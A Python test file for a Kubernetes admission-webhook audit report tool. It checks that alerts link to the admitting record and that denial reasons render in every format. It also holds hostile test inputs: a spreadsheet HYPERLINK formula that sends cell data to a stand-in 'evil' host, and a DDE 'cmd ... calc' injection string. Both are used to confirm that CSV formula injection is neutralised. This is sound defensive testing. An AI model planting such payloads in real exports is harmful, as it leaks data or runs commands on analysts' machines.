"""Report evidence an incident responder can trust: alerts point to the record that ADMITTED the
pod, denials carry their reasons in every format, and hostile record text stays inert (CSV
formula injection, HTML and Markdown markup)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from audit_events import write

from webhook.audit import report, report_render

HOSTILE = '=HYPERLINK("http://evil/"&A1)'


def admission(name: str, allowed: bool, digest: str, *, dry_run: bool = False, user: str = "alice") -> dict[str, Any]:
    image = "registry.example.com/web/app:1"
    findings = [] if allowed else [
        {"check": "pss:privileged", "mode": "enforce", "container": "app", "path": "spec", "message": "privileged <b>"}
    ]  # fmt: skip
    return {
        "kind": "Pod",
        "namespace": "web",
        "name": name,
        "user": user,
        "dry_run": dry_run,
        "allowed": allowed,
        "result": "allowed" if allowed else "denied",
        "findings": findings,
        "warnings": [],
        "images": [image],
        "context": {"images": {"images": [{"image": image, "digest": digest, "verified": allowed}]}},
    }


def alert(pod: str) -> dict[str, Any]:
    return {
        "rule": "Terminal shell in container",
        "priority": "Notice",
        "hostname": "node-1",
        "output": "shell",
        "output_fields": {
            "k8s.ns.name": "web",
            "k8s.pod.name": pod,
            "container.image.repository": "registry.example.com/web/app",
        },
    }


@pytest.fixture
def logs(tmp_path: Path) -> tuple[Path, Path]:
    """A webhook log and a node monitor log, as deployed (alerts and admissions apart)."""
    webhook, monitor = tmp_path / "webhook", tmp_path / "monitor"
    write(
        webhook,
        [
            ("2026-11-01T10:00:00.000000Z", "admission", admission("app-1", True, "sha256:" + "a" * 64)),
            ("2026-11-01T10:30:00.000000Z", "admission", admission("app-1", True, "sha256:" + "d" * 64, dry_run=True)),
            ("2026-11-01T11:00:00.000000Z", "admission", admission("app-1", False, "sha256:" + "b" * 64, user=HOSTILE)),
        ],
    )
    write(
        monitor,
        [
            ("2026-11-01T09:00:00.000000Z", "alert", alert("app-1")),  # before any admission
            ("2026-11-01T10:45:00.000000Z", "alert", alert("app-1")),
            ("2026-11-01T12:00:00.000000Z", "alert", alert("app-1")),  # after the denial
        ],
    )
    return webhook, monitor


def test_alerts_link_to_the_admission_that_admitted_the_pod_not_a_later_denial(logs: tuple[Path, Path]) -> None:
    webhook, monitor = logs
    data = report.build([monitor, webhook], window=report.Window(None, None, None), verify_logs=False)
    links = [a.detail.get("admission") for a in data.alerts]
    assert links[0] is None  # nothing had admitted the pod yet
    for link in links[1:]:
        assert link is not None
        assert (link["log"], link["index"], link["matched_by"]) == (str(webhook), 0, "pod")
        assert link["digest"] == "sha256:" + "a" * 64
        assert link["verified"] is True


@pytest.mark.parametrize("fmt", report_render.FORMATS)
def test_denial_reasons_appear_in_every_format(logs: tuple[Path, Path], fmt: str) -> None:
    webhook, _ = logs
    data = report.build([webhook], window=report.Window(None, None, None), verify_logs=False)
    text = report_render.render(data, fmt)
    if fmt == "html":
        assert "pss:privileged: privileged &lt;b&gt;" in text
        assert "privileged <b>" not in text
    elif fmt == "json":
        (denial,) = json.loads(text)["admission"]["denials"]
        assert denial["detail"]["reasons"] == ["pss:privileged: privileged <b>"]
    elif fmt == "md":
        assert "pss:privileged: privileged \\<b\\>" in text
    else:
        rows = [r for r in csv.DictReader(io.StringIO(text)) if r["dimension"] == "denial"]
        assert len(rows) == 1
        assert "denied: pss:privileged: privileged <b>" in rows[0]["detail"]


TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("start", TRIGGERS)
def test_csv_cells_that_start_like_a_formula_are_neutralised(tmp_path: Path, start: str) -> None:
    evil = start + "cmd|' /C calc'!A0"
    content = admission(evil, False, "sha256:" + "c" * 64, user=evil)
    content["namespace"] = evil
    content["findings"][0]["check"] = evil
    write(tmp_path / "log", [("2026-11-01T10:00:00.000000Z", "admission", content)])
    data = report.build([tmp_path / "log"], window=report.Window(None, None, None), verify_logs=False)
    text = report_render.to_csv(data)
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert any(evil in c for c in cells)
    for cell in cells:
        assert not cell.lstrip(" ").startswith(TRIGGERS), repr(cell)
    assert f"'{evil}" in cells


def test_csv_cell_keeps_numbers_and_plain_text() -> None:
    assert report_render.csv_cell(3) == 3
    assert report_render.csv_cell(2.5) == 2.5
    assert report_render.csv_cell("web") == "web"
    assert report_render.csv_cell("-1") == "'-1"  # text that looks numeric is still text
    assert report_render.csv_cell("  =1+1") == "'  =1+1"
    assert report_render.csv_cell("\uff1dSUM(A1)") == "'\uff1dSUM(A1)"  # full-width '='
